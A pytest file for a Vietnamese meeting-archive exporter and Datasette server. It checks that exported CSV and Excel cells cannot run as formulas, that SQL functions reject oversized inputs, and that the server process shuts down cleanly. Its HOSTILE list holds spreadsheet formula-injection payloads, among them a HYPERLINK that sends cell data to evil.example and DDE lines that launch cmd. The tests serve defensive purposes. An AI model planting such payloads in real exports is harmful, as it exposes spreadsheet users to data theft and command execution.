"""What leaves the archive cannot hurt its reader or its host: CSV cells never run as formulas,
SQL functions refuse inputs that would escape Datasette's time limit, `thidua serve` stops
Datasette when it is stopped and never says "serving" before it is, the crawl lock holds
through a symlinked --db."""

from __future__ import annotations

import csv
import io
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from archive import store
from archive.export import export_attendees, export_meetings, safe_cell
from archive.lock import CrawlLock

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Bấm vào đây\")", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture()
def hostile_archive(tmp_path: Path) -> Path:
    path = tmp_path / "archive.db"
    db = store.open_archive(path)
    db["articles"].insert({"id": 1, "url": "https://x.example/1.html", "title": HOSTILE[0],
                           "published_at": "2024-01-02"}, pk="id")
    db["meetings"].insert({"id": 1, "article_id": 1, "kind": "sơ kết", "title": HOSTILE[1],
                           "cluster_name": HOSTILE[2], "host": HOSTILE[3], "place": HOSTILE[4],
                           "province": HOSTILE[5], "meeting_date": "2024-01-01"}, pk="id")
    db["meeting_attendees"].insert({"meeting_id": 1, "name": "=Nguyễn Văn A", "title": "+Chủ tịch",
                                    "organisation": "@LĐLĐ"})
    db.close()
    return path


def test_safe_cell():
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert safe_cell("Cụm thi đua số 7") == "Cụm thi đua số 7"
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("") == ""


@pytest.mark.parametrize("export", [export_meetings, export_attendees])
def test_no_exported_cell_starts_a_formula(hostile_archive: Path, export):
    out = io.StringIO()
    assert export(hostile_archive, out, excel=True) == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    cells = [v for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"], row
    # the text itself is all there, behind the apostrophe
    assert any(v == "'" + HOSTILE[0] or v == "'=Nguyễn Văn A" for v in cells), row


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _serve(db: Path, port: int) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "archive", "serve", "--db", str(db), "--port",
                             str(port)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)


def _children(pid: int) -> list[int]:
    try:
        text = Path(f"/proc/{pid}/task/{pid}/children").read_text()
    except OSError:
        return []
    return [int(p) for p in text.split()]


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split()[2] != "Z"
    except OSError:
        return False


@pytest.fixture()
def served(hostile_archive: Path):
    port = _free_port()
    proc = _serve(hostile_archive, port)
    seen = []
    for line in proc.stderr:  # Datasette logs here too; wait for thidua's own line (or EOF)
        seen.append(line)
        if line.startswith("thidua serve:"):
            break
    yield proc, port, "".join(seen)
    for child in _children(proc.pid):
        os.kill(child, signal.SIGKILL)
    if proc.poll() is None:
        proc.kill()
    proc.communicate(timeout=30)


def test_serve_announces_only_once_the_port_answers_and_sigterm_stops_datasette(served):
    proc, port, line = served
    assert "thidua serve: serving" in line, line
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        pass  # it answers at the moment it said so
    [datasette] = _children(proc.pid)
    proc.send_signal(signal.SIGTERM)
    code = proc.wait(timeout=60)
    # Datasette's own exit status: uvicorn shuts down cleanly, then re-raises the signal, so
    # 128 + SIGTERM as a shell reports it (0 from older uvicorns)
    assert code in (0, 128 + signal.SIGTERM), f"exit {code}"
    deadline = time.time() + 10
    while _alive(datasette) and time.time() < deadline:
        time.sleep(0.1)
    assert not _alive(datasette), "Datasette was left running (an orphan holding the port)"


def test_sql_functions_refuse_huge_inputs(served):
    _proc, port, line = served
    assert "thidua serve: serving" in line, line

    def query(sql: str) -> tuple[int, str]:
        url = f"http://127.0.0.1:{port}/archive.json?" + urllib.parse.urlencode({"sql": sql})
        try:
            with urllib.request.urlopen(url, timeout=60) as resp:
                return resp.status, resp.read().decode()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read().decode()

    status, body = query("select fold('Thi đua') as f")
    assert status == 200 and "thi dua" in body
    for sql in ("select length(fold(printf('%.*c', 60000000, 'a')))",
                "select length(vi_snippet(printf('%.*c', 60000000, 'a'), 'a'))",
                "select length(nfc(printf('%.*c', 60000000, 'a')))",
                "select length(decompress_text(zeroblob(30000000)))"):
        status, body = query(sql)
        # refused by the function at once (SQLite reports it so), not run for seconds and
        # then cut by the time limit ("interrupted"), nor run to the end (200)
        assert status == 400 and "function raised exception" in body, (sql, status, body[-300:])
    assert query("select 1")[0] == 200  # and the server is still there


def test_serve_on_a_busy_port_fails_without_saying_serving(hostile_archive: Path):
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        proc = _serve(hostile_archive, busy.getsockname()[1])
        _out, err = proc.communicate(timeout=120)
    assert proc.returncode != 0
    assert "serving" not in err and "in use" in err, err
    assert len(err.strip().splitlines()) == 1, err


def test_the_lock_follows_a_symlinked_db(tmp_path: Path):
    real = tmp_path / "real" / "archive.db"
    real.parent.mkdir()
    store.open_archive(real).close()
    link = tmp_path / "link.db"
    link.symlink_to(real)
    registry = tmp_path / "one.toml"
    registry.write_text('[[source]]\nid = "one"\nname = "One"\nprovince = "Huế"\n'
                        'platform = "generic"\nstart_urls = ["http://127.0.0.1:9/"]\n'
                        "allow_local = true\n", encoding="utf-8")
    with CrawlLock(real):
        result = subprocess.run([sys.executable, "-m", "archive", "crawl", "--sources",
                                 str(registry), "--db", str(link), "--quiet"],
                                cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 3, result.stderr
    assert "already" in result.stderr
    assert sqlite3.connect(real).execute("select count(*) from crawls").fetchone()[0] == 0


def test_no_workbook_cell_is_a_formula(hostile_archive: Path, tmp_path: Path):
    import zipfile

    from archive.export import write_workbook

    out = tmp_path / "m.xlsx"
    assert write_workbook(hostile_archive, out) == (1, 1)
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        strings = book.read("xl/sharedStrings.xml").decode()
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    assert "=HYPERLINK" in strings  # the text is kept, as text
